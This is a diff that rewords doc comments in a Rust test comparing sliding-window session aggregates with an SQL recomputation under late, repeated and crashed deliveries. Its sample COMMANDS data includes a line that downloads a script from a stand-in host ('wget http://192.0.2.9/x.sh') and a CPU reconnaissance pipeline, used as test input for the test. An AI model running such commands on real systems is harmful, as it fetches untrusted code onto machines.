@@ -1,5 +1,5 @@
-//! Sliding windows equal a recomputation from the events, whatever the order, the repetition, the lateness,
-//! the competitors and their crashes.
+//! Sliding windows equal a recomputation from the events for any order, repetition and delay, with competing
+//! processors and their crashes.
 
 use std::{
     collections::{BTreeMap, VecDeque},
@@ -103,7 +103,7 @@ fn lines(random: &mut Random) -> Vec<Line> {
 const COMMANDS: [&str; 4] =
     ["uname -a", "  uname   -a ", "cat /proc/cpuinfo | grep name | wc -l", "wget http://192.0.2.9/x.sh"];
 
-/// The order of delivery: mostly in time, some up to days late, some twice or three times; cut into batches.
+/// The deliveries: mostly in order of time, some up to days late, some repeated; divided into batches.
 fn deliveries(random: &mut Random, lines: &[Line]) -> VecDeque<Vec<Line>> {
     let mut order: Vec<(u64, &Line)> = Vec::new();
     for (n, line) in lines.iter().enumerate() {
@@ -123,8 +123,8 @@ fn deliveries(random: &mut Random, lines: &[Line]) -> VecDeque<Vec<Line>> {
     batches
 }
 
-/// A competitor: takes batches and commits them. Now and then it dies before the commit is done, or after it
-/// and before the batch is acknowledged.
+/// A competing processor: takes batches and commits them. Now and then it dies before the commit is done, or
+/// after it and before the batch is acknowledged.
 async fn compete(
     url: String,
     batches: Arc<Mutex<VecDeque<Vec<Line>>>>,
@@ -168,7 +168,7 @@ async fn connect(url: &str) -> Store {
     Store::connect(&StoreArgs { database_url: Some(url.to_owned()), database_connections: 4 }).await.unwrap()
 }
 
-/// Every session that has ended has features that its events give, and no other has.
+/// Every session that has ended has the features of its events; no other session has features.
 async fn features(store: &Store, url: &str, seed: u64) {
     let mut transaction = store.begin_reading().await.unwrap();
     let mut after = store::SessionKey::default();
@@ -176,7 +176,7 @@ async fn features(store: &Store, url: &str, seed: u64) {
         assert!(found.outdated.is_empty() && found.wrong.is_empty(), "seed {seed}: {found:?}");
         after = found.last;
     }
-    // And in SQL, which knows nothing of Rust.
+    // The same check in SQL, which shares no code with Rust.
     let wrong = psql(
         url,
         "select s.sensor, s.session from sessions s full join session_features f using (sensor, session)
@@ -198,7 +198,7 @@ async fn features(store: &Store, url: &str, seed: u64) {
     assert!(ended.trim().split('|').all(|count| count.parse::<u32>().unwrap() > 20), "seed {seed}: {ended}");
 }
 
-/// What the table says of the elements of a vector is what the program does.
+/// The table of elements agrees with the program.
 fn elements(url: &str) {
     let mut expected: Vec<String> =
         ELEMENTS.iter().map(|one| format!("{}|{}|{}", one.name, one.unit, one.scaling.formula())).collect();
@@ -217,7 +217,7 @@ fn elements(url: &str) {
     assert_eq!(stored.lines().collect::<Vec<_>>(), expected);
 }
 
-/// Closes what is idle, as the sweep does.
+/// Closes idle sessions, as the sweep does.
 async fn sweep(store: &Store) {
     loop {
         let mut transaction = store.begin().await.unwrap();
@@ -230,7 +230,7 @@ async fn sweep(store: &Store) {
     }
 }
 
-/// Rolls up what is due.
+/// Rolls up everything that is due.
 async fn roll_up(store: &Store) {
     let mut connection = store.connection().await.unwrap();
     let visits = store::due_visits(&mut connection, Duration::ZERO).await.unwrap();
@@ -249,7 +249,7 @@ async fn roll_up(store: &Store) {
     }
 }
 
-/// One seed in a database of its own.
+/// Runs one seed in its own database.
 async fn seed(url: String, seed: u64) -> BTreeMap<String, u64> {
     let mut random = Random(seed.wrapping_mul(0x2545_f491_4f6c_dd1d));
     let store = connect(&url).await;
@@ -265,7 +265,7 @@ async fn seed(url: String, seed: u64) -> BTreeMap<String, u64> {
             }
             roll_up(&store).await;
             sweep(&store).await;
-            // The first week of minutes goes, and in every second seed January's hours.
+            // Drops the first week of minutes, and with every second seed January's hours.
             let drops: &[Grain] =
                 if seed.is_multiple_of(2) { &[Grain::Minute] } else { &[Grain::Minute, Grain::Hour] };
             for &grain in drops.iter().filter(|_| part == 2) {
@@ -289,8 +289,8 @@ async fn seed(url: String, seed: u64) -> BTreeMap<String, u64> {
     compared
 }
 
-/// A month of hours was dropped; then a late event opens a week that began in that month, and one of that
-/// month comes from a processor to which nobody has said so.
+/// A month of hours was dropped. Then a late event opens a week that began in that month, and a processor
+/// that does not know of the drop delivers one of that month.
 async fn a_week_outlives_its_month(url: &str) {
     let (knows, store) = (connect(url).await, connect(url).await);
     let commit = async |store: &Store, time: &str| {
@@ -331,8 +331,8 @@ async fn a_week_outlives_its_month(url: &str) {
     assert_eq!(window.events, 40);
 }
 
-/// The typed questions give what SQL gives; the parts of a series add up to the whole; the first of a top
-/// list is the largest.
+/// The typed queries give the same as SQL; the steps of a series add up to the whole; the first of a top list
+/// is the largest.
 async fn typed(store: &Store, url: &str) {
     let mut connection = store.connection().await.unwrap();
     let (end, day) =
@@ -364,8 +364,8 @@ async fn typed(store: &Store, url: &str) {
     }
 }
 
-/// Compares windows of every dimension with a recomputation in SQL; `commands` are all that were typed.
-/// Returns how many comparisons were not of nothing, by dimension.
+/// Compares windows of every dimension with a recomputation in SQL; `commands` are all commands. Returns the
+/// number of non-empty comparisons by dimension.
 pub fn compare(url: &str, commands: &[String], seed: u64) -> BTreeMap<String, u64> {
     let key = |command: &String| serde_json::json!({ "input": command, "key": events::bounded(&events::normal::normalise(command)) });
     let normal =
@@ -410,7 +410,8 @@ async fn futures_of(
     }
 }
 
-/// The gate runs ten seeds; `WINDOWS_SEEDS=10000` for more; `WINDOWS_FIRST=318 WINDOWS_SEEDS=1` for one of them.
+/// The gate runs ten seeds; `WINDOWS_SEEDS=10000` runs more, and `WINDOWS_FIRST=318 WINDOWS_SEEDS=1` only
+/// one.
 #[tokio::test(flavor = "multi_thread")]
 async fn windows_equal_a_recomputation() {
     let seeds: u64 = std::env::var("WINDOWS_SEEDS").map_or(10, |text| text.parse().unwrap());
@@ -461,5 +462,5 @@ async fn windows_equal_a_recomputation() {
     postgres.stop().await;
 }
 
-/// Seeds at the same time.
+/// Concurrent seeds.
 const AT_ONCE: usize = 4;
